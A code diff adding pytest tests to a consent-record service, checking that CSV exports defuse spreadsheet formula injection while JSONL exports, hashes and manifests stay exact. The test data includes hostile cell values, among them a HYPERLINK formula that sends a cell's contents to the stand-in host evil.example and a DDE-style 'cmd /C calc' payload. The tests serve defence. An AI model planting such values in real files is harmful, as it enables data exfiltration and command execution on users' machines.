@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import asyncio
+import csv
 import hashlib
 import io
 import json
@@ -12,9 +14,12 @@ from typing import Any
 import pytest
 from starlette.testclient import TestClient
 
+from consent_service.audit import AuditRow, row_hash
 from consent_service.cli import main
-from consent_service.export import manifest_path, parse_csv, parse_jsonl
+from consent_service.export import manifest_path, parse_csv, parse_file, parse_jsonl
+from consent_service.store import open_store
 
+from ..core.helpers import event
 from .conftest import bearer, consent, stored_rows
 
 
@@ -141,3 +146,97 @@ def test_cli_export_writes_a_file_and_manifest_that_check_later(
     assert main(["access-log", "--database", database_url]) == 0
     lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
     assert [(e["action"], e["token_id"]) for e in lines] == [("export", "cli")]
+
+
+#: Values a spreadsheet would run as formulas, and the cells they are exported as: a "'"
+#: before the value, and before what follows a TAB or CR in it (where a paste starts a
+#: new cell or row). The last one only looks like the mark and must come back as it was.
+_HOSTILE = {
+    '=HYPERLINK("https://evil.example/?"&A1,"click")': (
+        '\'=HYPERLINK("https://evil.example/?"&A1,"click")'
+    ),
+    "+1+1": "'+1+1",
+    "-2+3": "'-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1": "'\t'=1+1",
+    "\r=1+1": "'\r'=1+1",
+    "'=1+1": "''=1+1",
+}
+
+
+def _append_hostile(database_url: str) -> list[AuditRow]:
+    """One row per hostile ``widget_version``, written past the API's door (the store's)."""
+
+    async def go() -> list[AuditRow]:
+        store = open_store(database_url)
+        await store.open()
+        try:
+            made = []
+            for n, value in enumerate(_HOSTILE):
+                hostile = event("demo", n)
+                hostile.widget_version = value
+                hostile.page = "https://x.se/a;=1+1"
+                hostile.browser = "@Firefox/Linux"
+                made.append(hostile)
+            return await store.append(made)
+        finally:
+            await store.close()
+
+    return asyncio.run(go())
+
+
+def _csv_cells(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_hostile_cells_are_neutralised_in_csv_and_exact_in_jsonl(
+    fmt: str,
+    admin_client: TestClient,
+    make_token: Callable[..., str],
+    database_url: str,
+) -> None:
+    token = make_token("demo")
+    stored = _append_hostile(database_url)
+    answer = admin_client.get(f"/admin/v1/sites/demo/consents?format={fmt}", headers=bearer(token))
+    assert answer.status_code == 200
+    if fmt == "csv":
+        cells = _csv_cells(answer.content)
+        assert [c["widget_version"] for c in cells] == list(_HOSTILE.values())
+        assert {c["page"] for c in cells} == {"https://x.se/a;'=1+1"}
+        assert {c["browser"] for c in cells} == {"'@Firefox/Linux"}
+        rows = list(parse_csv(io.StringIO(answer.content.decode("utf-8"), newline="")))
+    else:
+        lines = [json.loads(line) for line in answer.content.decode("utf-8").splitlines()]
+        assert [line["widget_version"] for line in lines] == list(_HOSTILE)
+        assert b"https://x.se/a;=1+1" in answer.content
+        rows = list(parse_jsonl(io.StringIO(answer.content.decode("utf-8"))))
+    assert rows == stored
+    assert all(row_hash(r.seq, r.prev_hash, r) == r.hash for r in rows)
+    upto = answer.headers["kakor-upto-seq"]
+    manifest = admin_client.get(
+        f"/admin/v1/sites/demo/consents/manifest?format={fmt}&upto_seq={upto}",
+        headers=bearer(token),
+    ).json()
+    assert manifest["sha256"] == hashlib.sha256(answer.content).hexdigest()
+    assert manifest["rows"] == len(_HOSTILE)
+
+
+@pytest.mark.parametrize("suffix", ["csv", "jsonl"])
+def test_cli_export_of_hostile_cells_checks_and_rehashes(
+    suffix: str,
+    admin_client: TestClient,
+    database_url: str,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    stored = _append_hostile(database_url)
+    out = tmp_path / f"demo.{suffix}"
+    assert main(["export", "--site", "demo", "--output", str(out), "--database", database_url]) == 0
+    if suffix == "csv":
+        cells = _csv_cells(out.read_bytes())
+        assert [c["widget_version"] for c in cells] == list(_HOSTILE.values())
+    assert list(parse_file(out, suffix)) == stored
+    capsys.readouterr()
+    assert main(["export", "--check", str(out)]) == 0
+    assert json.loads(capsys.readouterr().out) == {"ok": True, "rows": 7, "problems": []}
